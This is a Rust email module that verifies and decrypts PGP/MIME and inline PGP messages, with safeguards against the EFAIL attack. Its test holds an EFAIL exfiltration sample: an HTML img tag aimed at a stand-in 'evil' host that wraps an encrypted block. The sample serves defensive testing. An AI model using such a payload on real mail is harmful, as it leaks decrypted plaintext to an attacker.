//! Received messages: finding PGP/MIME and inline PGP, verifying and
//! decrypting them. Only the message root counts as the whole message;
//! signed parts found deeper, and inline blocks with text around them,
//! cover only part of it. Trust is not judged here.

use super::armor::html::html_text;
use super::armor::inline::{find_inline, InlineBlock, InlineKind};
use super::decrypt::{decrypt, open};
use super::keys::Keys;
use super::mime::{parse_encrypted, parse_exchange_mangled, EXCHANGE_REPAIRED, SIGNATURE_PROTOCOL};
use super::sign::verify_detached;
use super::SigCheck;
use crate::error::{Error, Result};
use crate::mime::{self, Body, HeaderField};
use crate::time::Timestamp;

/// OpenPGP protection found on a message or part.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Protected {
    /// PGP/MIME multipart/signed: the signed entity's exact bytes (CRLF)
    /// and the decoded signature part.
    Signed {
        entity: Vec<u8>,
        signature: Vec<u8>,
        micalg: Option<String>,
    },
    /// PGP/MIME multipart/encrypted: the OpenPGP message; `repaired`
    /// when it was read from what a server rewrote, saying what.
    Encrypted {
        message: Vec<u8>,
        repaired: Option<&'static str>,
    },
    /// Inline PGP in a text body: the decoded body (or the text of an
    /// HTML body, `html`) and the block in it.
    Inline {
        text: Vec<u8>,
        block: InlineBlock,
        html: bool,
    },
}

/// Where OpenPGP protection sits in a message.
#[derive(Debug, Clone)]
pub struct Analysis {
    /// The message's header fields.
    pub headers: Vec<HeaderField>,
    /// Protection of the message root, if any.
    pub root: Option<Protected>,
    /// PGP/MIME signed parts below an unprotected root, with their part
    /// path (e.g. `2` or `1.3`).
    pub nested: Vec<(String, Protected)>,
}

/// How much of the message a signature covers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Scope {
    Whole,
    /// A part path, or `inline block` for inline PGP with text around.
    Part(String),
}

/// How the protection was carried.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    PgpMime,
    Inline,
}

/// Signatures over one signed part of a message.
#[derive(Debug, Clone)]
pub struct SignedPart {
    pub scope: Scope,
    pub form: Form,
    pub signatures: Vec<SigCheck>,
}

/// What verification found in a message.
#[derive(Debug, Clone)]
pub struct Report {
    pub headers: Vec<HeaderField>,
    /// Whether any OpenPGP protection was found.
    pub openpgp: bool,
    /// The root (or its inline block) is encrypted; verification does
    /// not decrypt.
    pub encrypted: bool,
    pub signed: Vec<SignedPart>,
    /// The literal content of an inline signed `PGP MESSAGE`, which is
    /// not readable as it stands.
    pub content: Option<Vec<u8>>,
    /// The entity a PGP/MIME signature at the root covers, which may be
    /// protected in its turn.
    pub inner: Option<Vec<u8>>,
    /// What was repaired to read the message, if anything.
    pub repaired: Option<&'static str>,
}

/// A decrypted message.
#[derive(Debug, Clone)]
pub struct DecryptedMessage {
    /// The outer header fields and the decrypted entity (PGP/MIME), or
    /// the message with its inline block replaced by the plaintext.
    pub message: Vec<u8>,
    pub seipd_version: u8,
    pub form: Form,
    /// The part the encryption covered.
    pub scope: Scope,
    /// Signatures inside the encryption (RFC 3156 section 6.2). What
    /// the decrypted message holds (e.g. a multipart/signed inside, RFC
    /// 3156 section 6.1) is for the caller to look at.
    pub signatures: Vec<SigCheck>,
    /// What was repaired to read the message, if anything.
    pub repaired: Option<&'static str>,
}

/// Finds the OpenPGP protection of a whole message.
pub fn analyze(raw: &[u8]) -> Result<Analysis> {
    let analysis = mime::analyze(raw)?;
    let (_, body) = mime::split_headers(raw)?;
    let root = match analysis.root {
        Body::MultipartSigned {
            protocol,
            micalg,
            signed,
            signature,
        } => (protocol == SIGNATURE_PROTOCOL).then_some(Protected::Signed {
            entity: signed,
            signature,
            micalg,
        }),
        Body::Pkcs7Mime { .. } => None,
        Body::Plain => plain_root(&analysis.headers, body)?,
    };
    let nested = analysis
        .nested
        .into_iter()
        .filter_map(|(path, body)| match body {
            Body::MultipartSigned {
                protocol,
                micalg,
                signed,
                signature,
            } if protocol == SIGNATURE_PROTOCOL => Some((
                path,
                Protected::Signed {
                    entity: signed,
                    signature,
                    micalg,
                },
            )),
            _ => None,
        })
        .collect();
    Ok(Analysis {
        headers: analysis.headers,
        root,
        nested,
    })
}

/// A plain root may be PGP/MIME encrypted (perhaps as Exchange rewrote
/// it), or text or HTML with inline PGP.
fn plain_root(headers: &[HeaderField], body: &[u8]) -> Result<Option<Protected>> {
    if let Some(message) = parse_encrypted(headers, body)? {
        return Ok(Some(Protected::Encrypted {
            message,
            repaired: None,
        }));
    }
    if let Some(message) = parse_exchange_mangled(headers, body)? {
        return Ok(Some(Protected::Encrypted {
            message,
            repaired: Some(EXCHANGE_REPAIRED),
        }));
    }
    let ct = mime::content_type(headers).unwrap_or_else(mime::params::ContentType::default_text);
    let html = ct.is("text/html");
    if !ct.is("text/plain") && !html {
        return Ok(None);
    }
    let mut text = mime::decode_body(headers, body)?;
    let mut shows_more = false;
    if html {
        let h = html_text(&text);
        (text, shows_more) = (h.text, h.shows_more);
    }
    Ok(find_inline(&text).map(|mut block| {
        // Beside an image or a link, the block is not all one sees.
        block.whole &= !shows_more;
        Protected::Inline { text, block, html }
    }))
}

/// Verifies every OpenPGP signature of a message. Encrypted messages
/// are reported as such, not decrypted.
pub fn verify_message(raw: &[u8], keys: &dyn Keys, at: Timestamp) -> Result<Report> {
    let analysis = analyze(raw)?;
    let mut report = Report {
        openpgp: analysis.root.is_some() || !analysis.nested.is_empty(),
        headers: analysis.headers,
        encrypted: false,
        signed: Vec::new(),
        content: None,
        inner: None,
        repaired: None,
    };
    match &analysis.root {
        Some(Protected::Signed {
            entity, signature, ..
        }) => {
            report.signed.push(SignedPart {
                scope: Scope::Whole,
                form: Form::PgpMime,
                signatures: verify_detached(entity, signature, keys, at)?,
            });
            report.inner = Some(entity.clone());
        }
        Some(Protected::Encrypted { message, repaired }) => {
            report.repaired = *repaired;
            verify_labelled_encrypted(message, keys, at, &mut report)?
        }
        Some(Protected::Inline { text, block, .. }) => {
            verify_inline(text, block, keys, at, &mut report)?
        }
        None => verify_nested(&analysis.nested, keys, at, &mut report),
    }
    Ok(report)
}

fn verify_inline(
    text: &[u8],
    block: &InlineBlock,
    keys: &dyn Keys,
    at: Timestamp,
    report: &mut Report,
) -> Result<()> {
    let Some(opened) = open(&block.armor(text), keys, at)? else {
        report.encrypted = true;
        return Ok(());
    };
    if block.kind == InlineKind::Message {
        report.content = Some(opened.content);
    }
    if !opened.signatures.is_empty() {
        report.signed.push(SignedPart {
            scope: inline_scope(block),
            form: Form::Inline,
            signatures: opened.signatures,
        });
    }
    Ok(())
}

/// What multipart/encrypted holds decides what it is, not the label: an
/// OpenPGP message that is only signed is reported as signed (and its
/// content kept), never as encrypted.
fn verify_labelled_encrypted(
    message: &[u8],
    keys: &dyn Keys,
    at: Timestamp,
    report: &mut Report,
) -> Result<()> {
    let Some(opened) = open(message, keys, at)? else {
        report.encrypted = true;
        return Ok(());
    };
    report.content = Some(opened.content);
    if !opened.signatures.is_empty() {
        report.signed.push(SignedPart {
            scope: Scope::Whole,
            form: Form::PgpMime,
            signatures: opened.signatures,
        });
    }
    Ok(())
}

fn inline_scope(block: &InlineBlock) -> Scope {
    if block.whole {
        Scope::Whole
    } else {
        Scope::Part("inline block".into())
    }
}

/// Signed parts below a plain root. One that cannot be read covers
/// nothing and is left out, as on the S/MIME side.
fn verify_nested(
    nested: &[(String, Protected)],
    keys: &dyn Keys,
    at: Timestamp,
    report: &mut Report,
) {
    for (path, p) in nested {
        let Protected::Signed {
            entity, signature, ..
        } = p
        else {
            continue;
        };
        if let Ok(signatures) = verify_detached(entity, signature, keys, at) {
            report.signed.push(SignedPart {
                scope: Scope::Part(path.clone()),
                form: Form::PgpMime,
                signatures,
            });
        }
    }
}

/// Why an inline encrypted block with text around it is not decrypted:
/// putting its plaintext back between text anyone could have written is
/// the EFAIL direct exfiltration (and a reply would quote it to the
/// attacker). Only a message that is encrypted as a whole is decrypted.
const INLINE_PART: &str = "nothing to decrypt: only a block inside the text is encrypted, \
     and its plaintext is not put back between text that anyone could have written; \
     save the block alone and decrypt that";

/// Decrypts a PGP/MIME encrypted message, or the inline encrypted block
/// of a text message when it is the whole text, and verifies what is
/// inside.
pub fn decrypt_message(raw: &[u8], keys: &dyn Keys, at: Timestamp) -> Result<DecryptedMessage> {
    let analysis = analyze(raw)?;
    match &analysis.root {
        Some(Protected::Encrypted { message, repaired }) => {
            let d = decrypt(message, keys, at)?;
            let message = mime::join_entity(&analysis.headers, &d.plaintext);
            Ok(DecryptedMessage {
                message,
                seipd_version: d.seipd_version,
                form: Form::PgpMime,
                scope: Scope::Whole,
                signatures: d.signatures,
                repaired: *repaired,
            })
        }
        Some(Protected::Inline { block, .. })
            if block.kind == InlineKind::Message && !block.whole =>
        {
            Err(Error::NothingToDo(INLINE_PART.into()))
        }
        Some(Protected::Inline { text, block, html }) if block.kind == InlineKind::Message => {
            let d = decrypt(&block.armor(text), keys, at)?;
            let message = match html {
                false => replace_inline(&analysis.headers, text, block, &d.plaintext),
                true => plaintext_for_html(&analysis.headers, &d.plaintext),
            };
            Ok(DecryptedMessage {
                message,
                seipd_version: d.seipd_version,
                form: Form::Inline,
                scope: inline_scope(block),
                signatures: d.signatures,
                repaired: None,
            })
        }
        _ => Err(Error::NothingToDo(
            "nothing to decrypt: the message is not OpenPGP encrypted".into(),
        )),
    }
}

/// The message whose HTML body was an encrypted block: the plaintext
/// alone, as text. It is text, not HTML, and nothing of the HTML around
/// the block is kept (the block was the whole text, but markup is not
/// text). The header fields but Content-Type and
/// Content-Transfer-Encoding are kept.
fn plaintext_for_html(headers: &[HeaderField], plaintext: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(plaintext.len() + 1024);
    for h in headers.iter().filter(|h| {
        !h.name.eq_ignore_ascii_case("Content-Transfer-Encoding")
            && !h.name.eq_ignore_ascii_case("Content-Type")
    }) {
        out.extend_from_slice(&h.raw);
    }
    let encoding = if plaintext.is_ascii() { "7bit" } else { "8bit" };
    out.extend_from_slice(
        format!("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n")
            .as_bytes(),
    );
    out.extend_from_slice(plaintext);
    out
}

/// The message with its inline block replaced by `plaintext`: the
/// header fields but Content-Transfer-Encoding (the body is now
/// decoded), which is declared anew.
fn replace_inline(
    headers: &[HeaderField],
    text: &[u8],
    block: &InlineBlock,
    plaintext: &[u8],
) -> Vec<u8> {
    let mut body = Vec::with_capacity(text.len() + plaintext.len());
    body.extend_from_slice(text.get(..block.start).unwrap_or_default());
    body.extend_from_slice(plaintext);
    body.extend_from_slice(text.get(block.end..).unwrap_or_default());
    let mut out = Vec::with_capacity(body.len() + 1024);
    for h in headers
        .iter()
        .filter(|h| !h.name.eq_ignore_ascii_case("Content-Transfer-Encoding"))
    {
        out.extend_from_slice(&h.raw);
    }
    let encoding = if body.is_ascii() { "7bit" } else { "8bit" };
    out.extend_from_slice(format!("Content-Transfer-Encoding: {encoding}\r\n\r\n").as_bytes());
    out.extend_from_slice(&body);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::openpgp::MemoryKeys;

    /// EFAIL direct exfiltration with inline PGP: attacker HTML around an
    /// armored message must not get the plaintext spliced in. The check
    /// comes before any decryption, so the block need not be real.
    #[test]
    fn fail_inline_block_with_text_around_is_not_decrypted() {
        let raw = b"From: a@example.org\r\nContent-Type: text/plain\r\n\r\n<img src=\"http://evil/?\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----\r\n\">\r\n";
        let at = Timestamp::parse_rfc3339("2026-06-01T12:00:00Z").unwrap();
        let err = decrypt_message(raw, &MemoryKeys::default(), at).unwrap_err();
        assert!(
            matches!(err, Error::NothingToDo(ref m) if m == INLINE_PART),
            "{err}"
        );
    }
}
